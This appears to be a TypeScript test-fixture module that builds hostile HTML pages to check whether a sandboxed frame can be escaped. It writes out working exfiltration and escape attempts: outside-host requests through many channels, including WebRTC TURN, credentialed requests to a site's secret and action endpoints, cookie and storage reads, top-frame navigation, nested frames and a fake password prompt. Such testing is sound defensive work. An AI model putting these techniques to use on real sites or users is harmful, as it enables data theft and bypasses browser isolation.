// An HTML page that tries everything to get out of its frame; what it achieves is written to the console as JSON.

interface Targets {
  /** A server elsewhere that counts whatever arrives. */
  readonly elsewhere: string;
  /** Host and port of the same, for WebRTC. */
  readonly peer: string;
  /** Of the server that serves the artifact. */
  readonly site: string;
}

/** A name that only the page with this peer looks up. */
export function nameFor(how: "prefetched" | "scripted", peer: string): string {
  return `${how}.of-${peer.split(":").at(-1)}.example`;
}

/** Tries what leaves the page where it is. The last line on the console is `tried` and the results. */
export function hostileArtifact({ elsewhere, peer, site }: Targets): string {
  const out = JSON.stringify(elsewhere);
  return `<!doctype html>
<link rel="stylesheet" href="${elsewhere}/link-css">
<link rel="dns-prefetch" href="//${nameFor("prefetched", peer)}">
<link rel="preconnect" href="${elsewhere}">
<link rel="prefetch" href="${elsewhere}/prefetch">
<link rel="preload" as="script" href="${elsewhere}/preload">
<link rel="modulepreload" href="${elsewhere}/modulepreload">
<link rel="manifest" href="${elsewhere}/manifest">
<link rel="icon" href="${elsewhere}/icon">
<script type="speculationrules">{"prefetch":[{"urls":["${elsewhere}/speculation"]}]}</script>
<style>
@import "${elsewhere}/import-css";
@font-face { font-family: f; src: url("${elsewhere}/font") }
body { font-family: f; background: url("${elsewhere}/background") }
</style>
<script src="${elsewhere}/script"></script>
<script type="module" src="${elsewhere}/module"></script>
<img src="${elsewhere}/img"><img srcset="${elsewhere}/srcset 1x">
<img src="${site}/api/secret">
<video src="${elsewhere}/video" poster="${elsewhere}/poster"></video>
<audio src="${elsewhere}/audio"></audio>
<object data="${elsewhere}/object"></object><embed src="${elsewhere}/embed">
<svg><image href="${elsewhere}/svg-image"/><use href="${elsewhere}/svg-use#a"/></svg>
<iframe src="${elsewhere}/iframe"></iframe>
<iframe src="${site}/api/secret"></iframe>
<a id="anchor" href="${elsewhere}/anchor" target="_blank">a</a>
<a id="ping" href="#here" ping="${elsewhere}/ping">a</a>
<a id="top" href="${elsewhere}/anchor-top" target="_top">a</a>
<form id="form" method="post" action="${elsewhere}/form" target="_blank"><input name="a"></form>
<form id="form-api" method="post" action="${site}/api/act" target="_blank"><input name="a"></form>
<script>
const results = {};
const names = { reached: "reached" };
async function attempt(name, work) {
  try {
    results[name] = String((await work()) ?? names.reached);
  } catch (error) {
    results[name] = error.name;
  }
}
${rtc(peer)}
function socket(url) {
  return new Promise((resolve, reject) => {
    const opened = new WebSocket(url);
    opened.onopen = () => resolve("reached");
    opened.onerror = () => reject(new DOMException("", "NetworkError"));
  });
}
function events(url) {
  return new Promise((resolve, reject) => {
    const source = new EventSource(url);
    source.onopen = () => resolve("reached");
    source.onerror = () => reject(new DOMException("", "NetworkError"));
  });
}
function xhr(url) {
  return new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.open("GET", url);
    request.withCredentials = true;
    request.onload = () => resolve("reached");
    request.onerror = () => reject(new DOMException("", "NetworkError"));
    request.send();
  });
}
const out = ${out};
const site = ${JSON.stringify(site)};
const blobUrl = (code) => URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
addEventListener("load", async () => {
  await attempt("cookie", () => document.cookie);
  await attempt("set-cookie", () => { document.cookie = "a=b"; });
  await attempt("localStorage", () => localStorage.length);
  await attempt("sessionStorage", () => sessionStorage.length);
  await attempt("indexedDB", () => indexedDB.open("x"));
  await attempt("caches", () => caches.open("x"));
  await attempt("cookieStore", () => (self.cookieStore ? cookieStore.getAll() : "absent"));
  await attempt("opfs", () => navigator.storage.getDirectory());
  await attempt("parent", () => parent.document.title);
  await attempt("top-href", () => top.location.href);
  await attempt("fetch", () => fetch(out + "/fetch"));
  await attempt("fetch-no-cors", () => fetch(out + "/fetch", { mode: "no-cors" }));
  await attempt("fetch-api", () => fetch(site + "/api/secret", { credentials: "include" }));
  await attempt("post-api", () => fetch(site + "/api/act", { method: "POST", credentials: "include" }));
  await attempt("xhr", () => xhr(out + "/xhr"));
  await attempt("xhr-api", () => xhr(site + "/api/secret"));
  await attempt("websocket", () => socket(out.replace("http", "ws") + "/ws"));
  await attempt("websocket-api", () => socket(site.replace("http", "ws") + "/ws"));
  await attempt("event-source", () => events(out + "/events"));
  navigator.sendBeacon(out + "/beacon", "x");
  navigator.sendBeacon(site + "/api/act", "x");
  await attempt("import", () => import(out + "/import.js"));
  await attempt("worker", () => new Promise((resolve, reject) => {
    const worker = new Worker(blobUrl("postMessage(1)"));
    worker.onmessage = () => resolve("reached");
    worker.onerror = () => reject(new DOMException("", "SecurityError"));
  }));
  await attempt("shared-worker", () => new Promise((resolve, reject) => {
    const { port, ...worker } = new SharedWorker(blobUrl("onconnect = (e) => e.ports[0].postMessage(1)"));
    worker.onerror = () => reject(new DOMException("", "SecurityError"));
    port.onmessage = () => resolve("reached");
    setTimeout(() => reject(new DOMException("", "TimeoutError")), 500);
  }));
  await attempt("service-worker", () => navigator.serviceWorker.register(site + "/sw.js"));
  await attempt("window.open", () => (window.open(out + "/open") ? "reached" : "null"));
  await attempt("top-navigation", () => { top.location.href = out + "/top"; });
  await attempt("parent-navigation", () => { parent.location.replace(out + "/parent"); });
  await attempt("dialog", () => (confirm("Your password?") ? "reached" : "closed"));
  parent.postMessage({ steal: true }, "*");
  for (const id of ["anchor", "ping", "top"]) document.getElementById(id).click();
  for (const id of ["form", "form-api"]) document.getElementById(id).submit();
  new Image().src = out + "/new-image";
  const link = document.createElement("link");
  link.rel = "dns-prefetch";
  link.href = "//${nameFor("scripted", peer)}";
  document.head.append(link);
  await attempt("webrtc", () => rtc(window).then(() => "tried"));
  console.log("tried " + JSON.stringify(results));
});
</script>
<p>hostile`;
}

/** For a script: data channels by way of a server of the other side's choice. */
function rtc(peer: string): string {
  return `function rtc(w) {
  const servers = [
    { urls: "stun:${peer}" },
    { urls: "turn:${peer}", username: "u", credential: "p" },
    { urls: "turn:${peer}?transport=tcp", username: "u", credential: "p" },
  ];
  const connection = new w.RTCPeerConnection({ iceServers: servers });
  connection.createDataChannel("x");
  return connection.createOffer().then((offer) => connection.setLocalDescription(offer));
}`;
}

/** Does the same in documents of its own making, where whatever was taken from the first would be there again. */
export function nestingArtifact({ elsewhere, peer }: Targets): string {
  const inside = `${rtc(peer)}
try { rtc(self) } catch {}
new Image().src = "${elsewhere}/nested-img";
fetch("${elsewhere}/nested").catch(() => {});`;
  return `<!doctype html><body><script>
const inside = ${JSON.stringify(inside)};
const page = "<script>" + inside + "<" + "/script>";
function nested(property, value) {
  const frame = document.createElement("iframe");
  frame[property] = value;
  document.body.append(frame);
}
nested("srcdoc", page);
nested("src", "javascript:" + encodeURIComponent(inside));
nested("src", "data:text/html," + encodeURIComponent(page));
nested("src", URL.createObjectURL(new Blob([page], { type: "text/html" })));
</script>`;
}

/** Each tries to take its frame to another address; one page each, for nothing of it is left if it works. */
export function leavingArtifacts(target: string): string[] {
  const quoted = JSON.stringify(target);
  return [
    `<script>location.href = ${quoted}</script>`,
    `<meta http-equiv="refresh" content="0;url=${target}">`,
    `<a href="${target}">a</a><script>document.querySelector("a").click()</script>`,
    `<form action="${target}"><input name="a" value="b"></form><script>document.querySelector("form").submit()</script>`,
    `<script>location.replace(${quoted}); history.pushState(null, "", ${quoted})</script>`,
    `<script>open(${quoted}, "_self")</script>`,
    `<base href="${target}/"><a href="x">a</a><script>document.querySelector("a").click()</script>`,
    `<script>const f = document.createElement("iframe"); document.documentElement.append(f); f.contentWindow.location = ${quoted}</script>`,
    `<iframe srcdoc="<script>parent.location = '${target}'</script>"></iframe>`,
    `<a href="${target}" download>a</a><script>document.querySelector("a").click()</script>`,
    `<script>navigation.navigate(${quoted})</script>`,
  ];
}
